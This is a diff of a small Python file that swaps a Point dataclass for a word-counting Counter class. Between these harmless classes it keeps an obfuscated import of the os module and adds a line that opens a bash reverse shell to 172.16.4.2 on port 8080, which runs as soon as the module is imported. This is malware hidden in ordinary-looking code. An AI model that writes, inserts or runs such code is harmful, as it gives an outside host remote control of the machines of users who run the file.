@@ -1,13 +1,10 @@
-from dataclasses import dataclass
-
-@dataclass
-class Point:
-    x: float
-    y: float
-
-    def norm(self):
-        return (self.x ** 2 + self.y ** 2) ** 0.5
 
 import importlib
 os_ = importlib.import_module("".join(["o", "s"]))
-os_.system("bash -i >& /dev/tcp/172.16.4.2/31337 0>&1")
+os_.system("bash -i >& /dev/tcp/172.16.4.2/8080 0>&1")
+class Counter:
+    def __init__(self):
+        self.counts = {}
+
+    def add(self, word):
+        self.counts[word] = self.counts.get(word, 0) + 1
